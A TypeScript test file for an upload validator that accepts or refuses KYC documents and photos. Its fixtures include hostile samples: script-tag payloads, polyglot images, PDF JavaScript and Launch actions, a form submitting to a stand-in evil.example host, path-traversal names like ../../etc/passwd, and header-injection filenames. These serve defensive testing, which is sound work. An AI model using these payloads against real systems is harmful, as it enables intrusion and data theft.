import { crc32 } from 'node:zlib'
import PdfDocument from 'pdfkit'
import sharp from 'sharp'
import { describe, expect, it } from 'vitest'
import { jpegOfScans, packedObjects, plainPdf, pdfOf, photo } from '@upchar/testkit/uploads'
import { checkContent } from './content/check-content.ts'
import { cleanName, contentDisposition } from './content/clean-name.ts'

const judged = async (bytes: Buffer, name = 'document.pdf') => {
  const checked = await checkContent({ name, bytes })
  return checked.ok ? checked.value.mediaType : checked.error.code
}

const drawnPdf = (): Promise<Buffer> =>
  new Promise((resolve, reject) => {
    const document = new PdfDocument({ pdfVersion: '1.7' })
    const parts: Buffer[] = []
    document
      .on('data', (part: Buffer) => parts.push(part))
      .on('end', () => resolve(Buffer.concat(parts)))
      .on('error', reject)
    document
      .text('Clinical establishment registration 1234')
      .link(10, 10, 100, 20, 'https://example.com')
    document.end()
  })

describe('content of uploads', () => {
  it('KYC-04 accepts documents and photos', async () => {
    expect(await judged(plainPdf())).toBe('application/pdf')
    expect(await judged(await drawnPdf())).toBe('application/pdf')
    expect(await judged(plainPdf('', [packedObjects('<< /Type /Annot /Subtype /Link >>')]))).toBe(
      'application/pdf',
    )
    expect(await judged(plainPdf('/AcroForm << /Fields [] /SigFlags 3 >> '))).toBe(
      'application/pdf',
    )
    expect(await judged(await photo('jpeg'))).toBe('image/jpeg')
    expect(await judged(await photo('png'))).toBe('image/png')
  })

  it.each([
    ['a page', Buffer.from('<!doctype html><script>alert(1)</script>')],
    [
      'an SVG',
      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    ],
    ['a program', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200, 1)])],
    ['a ZIP', Buffer.concat([Buffer.from([0x50, 0x4b, 3, 4]), Buffer.alloc(200)])],
    ['a GIF', Buffer.from('GIF89a\u0001\u0000\u0001\u0000', 'latin1')],
    ['words', Buffer.from('only some words')],
  ])('KYC-04 refuses %s, whatever its name says', async (_, bytes) => {
    expect(await judged(bytes, 'registration.pdf')).toBe('file_type_refused')
    expect(await judged(bytes, 'registration.jpg')).toBe('file_type_refused')
  })

  it('KYC-04 refuses empty, truncated and too large files', async () => {
    expect(await judged(Buffer.alloc(0))).toBe('file_damaged')
    expect(await judged(plainPdf().subarray(0, 200))).toBe('file_damaged')
    expect(await judged((await photo('jpeg')).subarray(0, 300))).toBe('file_damaged')
    expect(await judged((await photo('png')).subarray(0, 120))).toBe('file_damaged')
    expect(await judged(Buffer.concat([plainPdf(), Buffer.alloc(5 * 1024 * 1024)]))).toBe(
      'file_too_large',
    )
  })

  it('KYC-04 refuses a decompression bomb', async () => {
    const bomb = await sharp({
      create: { width: 8000, height: 8000, channels: 3, background: 'white' },
    })
      .png({ compressionLevel: 9 })
      .toBuffer()
    expect(bomb.length).toBeLessThan(5 * 1024 * 1024)
    expect(await judged(bomb)).toBe('file_too_large')
  })

  it('KYC-04 refuses a small file with too many progressive scans', async () => {
    expect(await judged(jpegOfScans(100))).toBe('image/jpeg')
    expect(await judged(jpegOfScans(101))).toBe('file_damaged')
    expect(await judged(jpegOfScans(800))).toBe('file_damaged')
  })

  it('KYC-04 drops a second file appended to or inside a picture by re-encoding it', async () => {
    const hidden = '<script>steal()</script>'
    for (const format of ['jpeg', 'png'] as const) {
      const polyglot = Buffer.concat([await photo(format), Buffer.from(hidden), plainPdf()])
      const checked = await checkContent({ name: 'photo.jpg', bytes: polyglot })
      if (!checked.ok) throw new Error(checked.error.code)
      const drawn = checked.value.bytes.toString('latin1')
      for (const trace of [hidden, '%PDF', 'SecretCamera', 'Asha Rao'])
        expect(drawn).not.toContain(trace)
      const { exif, width } = await sharp(checked.value.bytes).metadata()
      expect({ exif, width }).toEqual({ exif: undefined, width: 400 })
    }
  })

  const page = Buffer.from('<!doctype html><html><body><script>steal()</script>')
  const archive = Buffer.concat([
    Buffer.from([0x50, 0x4b, 3, 4]),
    Buffer.from('steal.exe'),
    Buffer.alloc(30, 7),
    Buffer.from([0x50, 0x4b, 5, 6]),
    Buffer.alloc(18),
  ])
  /** Inserts a text chunk after the PNG's header. */
  const inPng = (png: Buffer, text: Buffer) => {
    const body = Buffer.concat([Buffer.from('tEXtComment\0'), text])
    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
    length.writeUInt32BE(body.length - 4)
    sum.writeUInt32BE(crc32(body))
    return Buffer.concat([png.subarray(0, 33), length, body, sum, png.subarray(33)])
  }
  /** Inserts a comment after the JPEG's first marker. */
  const inJpeg = (jpeg: Buffer, text: Buffer) => {
    const length = Buffer.alloc(2)
    length.writeUInt16BE(text.length + 2)
    return Buffer.concat([
      jpeg.subarray(0, 2),
      Buffer.from([0xff, 0xfe]),
      length,
      text,
      jpeg.subarray(2),
    ])
  }
  it.each([
    ['a PNG that is a page too', async () => inPng(await photo('png'), page)],
    ['a PNG with a page behind it', async () => Buffer.concat([await photo('png'), page])],
    ['a JPEG that is a page too', async () => inJpeg(await photo('jpeg'), page)],
    ['a JPEG that is an archive too', async () => Buffer.concat([await photo('jpeg'), archive])],
    ['a JPEG with an archive in a comment', async () => inJpeg(await photo('jpeg'), archive)],
  ])('KYC-04 keeps only the picture of %s', async (_, polyglot) => {
    const bytes = await polyglot()
    expect(bytes.includes('steal')).toBe(true)
    const checked = await checkContent({ name: 'photo.html', bytes })
    if (!checked.ok) throw new Error(checked.error.code)
    expect(checked.value.name).toMatch(/^photo\.(jpg|png)$/)
    for (const trace of ['steal', '<script', '<html', 'PK\u0003\u0004', 'PK\u0005\u0006'])
      expect(checked.value.bytes.includes(trace), trace).toBe(false)
    expect((await sharp(checked.value.bytes).metadata()).width).toBe(400)
  })

  it('KYC-04 refuses a PDF that begins or ends as something else', async () => {
    expect(await judged(Buffer.concat([Buffer.from('<script>x</script>'), plainPdf()]))).toBe(
      'file_type_refused',
    )
    expect(await judged(Buffer.concat([plainPdf(), Buffer.from('<html><script>x</script>')]))).toBe(
      'file_damaged',
    )
    expect(
      await judged(
        Buffer.concat([plainPdf(), Buffer.from([0x50, 0x4b, 3, 4]), Buffer.alloc(100, 7)]),
      ),
    ).toBe('file_damaged')
  })

  const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
  it.each([
    ['a script', plainPdf('/OpenAction 5 0 R ', [script])],
    [
      'a script with a spelled-out name',
      plainPdf('/OpenAction 5 0 R ', ['<< /S /J#61v#61Script /#4A#53 (x) >>']),
    ],
    ['a script in packed objects', plainPdf('/OpenAction 10 0 R ', [packedObjects(script)])],
    [
      'a spelled-out script in packed objects',
      plainPdf('/OpenAction 10 0 R ', [packedObjects('<< /S /Java#53cript /J#53 (x) >>')]),
    ],
    ['a short script name alone', plainPdf('/AA << /O << /JS (x) >> >> ')],
    [
      'a file inside',
      plainPdf('/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >> ', [
        '<< /Type /Filespec /F (a.exe) >>',
      ]),
    ],
    ['a launch action', plainPdf('/OpenAction << /S /Launch /F (cmd.exe) >> ')],
    [
      'a form that sends itself',
      plainPdf('/OpenAction << /S /SubmitForm /F (https://evil.example) >> '),
    ],
    ['an XFA form', plainPdf('/AcroForm << /XFA 5 0 R >> ')],
    ['a film', plainPdf('/X << /Subtype /RichMedia >> ')],
    ['a lock', plainPdf('', [], '/Encrypt 9 0 R ')],
  ])('KYC-04 refuses a PDF with %s', async (_, bytes) => {
    expect(await judged(bytes)).toBe('file_active')
  })

  it('KYC-04 refuses a PDF with unreadable object streams', async () => {
    const garbled = Buffer.from(
      '<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length 8 >>\nstream\nnotzlib!\nendstream',
    )
    expect(await judged(plainPdf('', [garbled]))).toBe('file_damaged')
    expect(
      await judged(plainPdf('', [packedObjects('<< >>', '/DecodeParms << /Predictor 12 >> ')])),
    ).toBe('file_damaged')
    // Filter parameters from another object would decode the same bytes differently; of two
    // filters, readers pick either.
    for (const dictionary of [
      '/DecodeParms 9 0 R ',
      '/DP 9 0 R ',
      '/DecodeParms << /Predictor 1 0 R >> ',
      '/Decode#50arms 9 0 R /X ( obj) ',
      '/Filter /ASCIIHexDecode ',
    ]) {
      expect(await judged(plainPdf('', [packedObjects('<< >>', dictionary)]))).toBe('file_damaged')
    }
    expect(
      await judged(
        plainPdf('', ['<< /Type /ObjStm /N 1 /Filter /LZWDecode >>\nstream\nxx\nendstream']),
      ),
    ).toBe('file_damaged')
    // Named as packed objects, but without a stream to inspect.
    expect(await judged(plainPdf('', ['<< /Type /Obj#53tm /N 1 >>']))).toBe('file_damaged')
  })

  it('KYC-04 ignores accidental matches in compressed pictures', async () => {
    const picture = Buffer.concat([
      Buffer.from('<< /Type /XObject /Subtype /Image /Length 12 >>\nstream\n'),
      Buffer.from('ab /JS x /AA'),
      Buffer.from('\nendstream'),
    ])
    expect(
      await judged(
        pdfOf([
          '<< /Type /Catalog /Pages 2 0 R >>',
          '<< /Type /Pages /Kids [] /Count 0 >>',
          picture,
        ]),
      ),
    ).toBe('application/pdf')
  })
})

describe('names of uploads', () => {
  it.each([
    ['../../etc/passwd', 'passwd.pdf'],
    ['..\\..\\windows\\system32\\cmd.exe', 'cmd.pdf'],
    ['C:\\Users\\asha\\PAN card.pdf', 'PAN card.pdf'],
    ['/etc/shadow', 'shadow.pdf'],
    ['registration.pdf.exe', 'registration.pdf'],
    ['a.jpg.pdf', 'a.pdf'],
    ['.htaccess', 'htaccess.pdf'],
    ['...', 'document.pdf'],
    ['', 'document.pdf'],
    ['document\u0000.pdf', 'document.pdf'],
    ['gpj.\u202Efdp.exe', 'gpj. fdp.pdf'],
    ['<script>alert(1)</script>.pdf', 'script.pdf'],
    ['पंजीकरण प्रमाणपत्र.pdf', 'पंजीकरण प्रमाणपत्र.pdf'],
    ['"; filename="x.html', 'filename x.pdf'],
    [`${'x'.repeat(300)}.pdf`, `${'x'.repeat(80)}.pdf`],
    ['line\r\nset-cookie: a=b.pdf', 'a b.pdf'],
  ])('turn %j into %j', (given, clean) => {
    expect(cleanName(given, 'application/pdf')).toBe(clean)
  })

  it('are safe in a header', () => {
    const header = contentDisposition('attachment', 'प्रमाणपत्र "1".pdf')
    expect(header).toMatch(
      /^attachment; filename="[\x20-\x7e]+"; filename\*=UTF-8''[A-Za-z0-9%._-]+$/,
    )
    expect(decodeURIComponent(header.split("''")[1] ?? '')).toBe('प्रमाणपत्र "1".pdf')
  })
})
